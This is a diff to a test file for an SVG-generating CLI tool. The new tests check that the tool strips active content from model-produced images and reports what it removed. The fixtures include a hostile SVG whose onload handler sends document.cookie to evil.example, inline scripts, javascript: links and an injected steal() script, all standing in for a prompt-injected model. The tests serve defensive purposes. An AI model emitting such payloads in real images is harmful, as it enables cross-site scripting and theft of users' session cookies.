@@ -3,11 +3,27 @@
 // content the user's file already had. A scripted endpoint plays the hostile
 // (or prompt-injected) model, since a real model cannot be made to on demand.
 import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { refineOnce, runLoop } from '../../src/core/loop';
 import type { Capabilities } from '../../src/core/model/capabilities';
 import { ModelClient } from '../../src/core/model/client';
 import { WorkerPool } from '../../src/core/render/pool';
+import { CLI_JS } from './bundledServer';
 import { startFaultServer, type FaultServer } from './faultServer';
+
+function cli(args: string[], cwd: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [CLI_JS, ...args], { cwd, env: { ...process.env, SVG_COPILOT_API_KEY: '' }, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d) => (stdout += d));
+    child.stderr.on('data', (d) => (stderr += d));
+    child.on('close', (code) => resolve({ code, stdout, stderr }));
+  });
+}
 
 const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch('https://evil.example/?c='+document.cookie)"><script>alert(document.domain)</script><a href="javascript:alert(1)"><circle cx="100" cy="100" r="80" fill="#36c"/></a><use href="https://evil.example/sprite.svg#x"/></svg>`;
 const PLAIN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><circle cx="100" cy="100" r="80" fill="#36c"/></svg>';
@@ -57,5 +73,45 @@ describe('loop: active content in model answers', function () {
     assert.ok(f.ok);
     assert.equal(f.svg, '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="6"/></svg>');
     assert.deepEqual(f.removed.map((r) => r.what), ['onclick on <circle>', '<script>']);
+  });
+
+  describe('CLI', () => {
+    let dir: string;
+    before(() => { dir = mkdtempSync(join(tmpdir(), 'svgc-active-')); });
+    after(() => rmSync(dir, { recursive: true, force: true }));
+    const endpoint = () => ['--endpoint', server!.url, '--critic', 'text', '--rounds', '1'];
+
+    it('generate prints the sanitized SVG and says on stderr what it removed; --allow-active-content keeps it', async () => {
+      server = await startFaultServer((r) => (r.kind === 'generate' ? { text: HOSTILE } : r.kind === 'probe' ? { text: 'ok' } : { text: verdictFor(r.text) }));
+      const r = await cli(['generate', 'a blue ball', ...endpoint()], dir);
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stdout, ACTIVE);
+      assert.match(r.stdout, /<circle cx="100" cy="100" r="80" fill="#36c"\/>/);
+      assert.match(r.stderr, /svg-copilot: removed active content: onload on <svg>, <script>, href="javascript:alert\(1\)" on <a> and href="https:\/\/evil\.example\/sprite\.svg#x" on <use>/);
+      const kept = await cli(['generate', 'a blue ball', ...endpoint(), '--allow-active-content'], dir);
+      assert.equal(kept.stdout, `${HOSTILE}\n`);
+      assert.doesNotMatch(kept.stderr, /removed active content/);
+    });
+
+    it('generate --csv writes sanitized files and names each row\'s removals on stderr', async () => {
+      server = await startFaultServer((r) => (r.kind === 'generate' ? { text: r.text.includes('hostile') ? HOSTILE : PLAIN } : r.kind === 'probe' ? { text: 'ok' } : { text: verdictFor(r.text) }));
+      writeFileSync(join(dir, 'rows.csv'), 'id,desc\nbad,a hostile ball\ngood,a plain ball\n');
+      const r = await cli(['generate', '--csv', 'rows.csv', '--out-dir', 'out', ...endpoint()], dir);
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(readFileSync(join(dir, 'out', 'bad.svg'), 'utf8'), ACTIVE);
+      assert.equal(readFileSync(join(dir, 'out', 'good.svg'), 'utf8'), `${PLAIN}\n`);
+      assert.match(r.stderr, /bad: removed active content: onload on <svg>/);
+      assert.doesNotMatch(r.stderr, /good: removed/);
+    });
+
+    it('critique --fix keeps the file\'s own references and removes what the fix adds', async () => {
+      const mine = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="4"/></svg>';
+      server = await startFaultServer((r) => (r.kind === 'refine' ? { text: mine.replace('r="4"/>', 'r="6"/><script>steal()</script>') } : r.kind === 'probe' ? { text: 'ok' } : { text: verdictFor(r.text) }));
+      writeFileSync(join(dir, 'mine.svg'), mine);
+      const r = await cli(['critique', 'mine.svg', '--fix', '-o', 'fixed.svg', '--endpoint', server.url, '--critic', 'text'], dir);
+      assert.equal(r.code, 0, r.stderr);
+      assert.equal(readFileSync(join(dir, 'fixed.svg'), 'utf8'), `${mine.replace('r="4"', 'r="6"')}\n`);
+      assert.match(r.stderr, /svg-copilot: from the fix, removed active content: <script>/);
+    });
   });
 });
